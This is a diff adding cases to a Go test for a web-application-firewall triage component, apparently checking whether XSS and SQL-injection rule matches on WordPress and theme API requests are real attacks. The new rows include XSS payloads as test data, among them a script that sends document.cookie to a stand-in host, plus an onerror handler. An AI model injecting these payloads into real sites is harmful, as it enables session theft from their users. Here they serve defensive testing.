@@ -1,6 +1,7 @@
 package triage
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/modsecurity-for-anylog/msa/engine"
@@ -103,6 +104,9 @@ func TestMeant(t *testing.T) {
 		"catalogue":               {"xss", "POST", "/a", "", "REQUEST_BODY", po, true},
 		"catalogue and more":      {"xss", "POST", "/a", "", "REQUEST_BODY", po + "<script>alert(1)</script>", false},
 		"page of WordPress":       {"xss", "POST", "/wp-json/wp/v2/posts/7", "", "ARGS:json.content", "<script src=/a></script>", true},
+		"cookies in WordPress":    {"xss", "POST", "/wp-json/wp/v2/posts/7", "", "ARGS:json.content", "<script>fetch('//a.example/'+document.cookie)</script>", false},
+		"handler in WordPress":    {"xss", "POST", "/wp-json/wp/v2/posts/7", "", "ARGS:json.title", "<img src=x onerror=alert(1)>", false},
+		"theme with cookies":      {"xss", "PUT", "/admin/api/2026-01/themes/7/assets.json", "", "ARGS:json.asset.value", "<script>" + strings.Repeat("a();", 300) + "document.cookie='a=1'</script>", true},
 		"code in WordPress":       {"xss", "POST", "/wp-json/wp/v2/posts/7", "", "ARGS:json.content", "import(os); print(1)", false},
 		"author of WordPress":     {"xss", "POST", "/wp-json/wp/v2/comments", "", "ARGS:json.content", "<script src=/a></script>", false},
 		"page, as SQL":            {"sqli", "POST", "/wp-json/wp/v2/posts/7", "", "ARGS:json.content", "' union select 1", false},
